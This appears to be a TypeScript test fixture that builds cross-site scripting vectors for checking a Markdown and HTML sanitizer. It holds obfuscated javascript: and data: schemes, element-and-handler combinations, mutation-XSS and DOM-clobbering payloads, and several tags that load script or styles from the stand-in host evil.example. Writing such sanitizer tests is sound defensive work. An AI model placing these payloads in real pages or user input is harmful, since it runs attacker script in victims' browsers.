/** Words that mean harm, by combining classes: schemes and their encodings, elements and handlers, and where they stand. */

const RUN = 'window.ran=1';

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&#58;',
  '\u0001javascript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml;base64,',
  'blob:',
  'file:///',
  'filesystem:',
  'obsidian://open?',
  'ms-calculator:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
] as const;

/** Every way in which Markdown makes a link or a picture of an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => `[a](${address} "x\\" onmouseover=${RUN}")`,
  (address) => `[a]\n\n[a]: ${address}`,
  (address) => `[![a](${address})](${address})`,
];

/** Links and pictures of Markdown, each with another scheme. */
export const MARKDOWN_VECTORS: readonly string[] = SCHEMES.flatMap((scheme) =>
  LINKS.map((link) => link(scheme + RUN)),
);

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe src=x',
  'object data=x',
  'embed src=x',
  'marquee',
  'select autofocus',
  'style',
  'math',
  'a href=#',
  'button',
  'form id=location name=cookie',
  'x-own tabindex=1',
] as const;
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onstart',
] as const;

const WHOLE = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>a</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">a</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<a id=document name=body href="javascript:${RUN}">a</a>`,
  `<form><input name=attributes><input name=innerHTML></form>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(https://evil.example/x.png)">a</div>`,
  `<div style="width:expression(${RUN})">a</div>`,
  `<section data-background-iframe="javascript:${RUN}">a</section>`,
  `<section data-background-image=https://evil.example/x.png data-state=x>a</section>`,
  `<img srcset="https://evil.example/x.png 1x" src=//evil.example/x.png>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>a</button></form>`,
  `<button formaction="javascript:${RUN}">a</button>`,
  `<object data="javascript:${RUN}"></object>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `\`><svg/onload=${RUN}>`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
] as const;

/** HTML: each element with each handler, and whole pieces that need more than one element. */
export const HTML_PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=${RUN}>a`)),
  ...WHOLE,
];

/** Where a payload may stand. */
export const CONTEXTS: readonly (readonly [string, (payload: string) => string])[] = [
  ['a paragraph', (payload) => payload],
  ['an item', (payload) => `- ${payload}`],
  ['a heading', (payload) => `## ${payload}`],
];
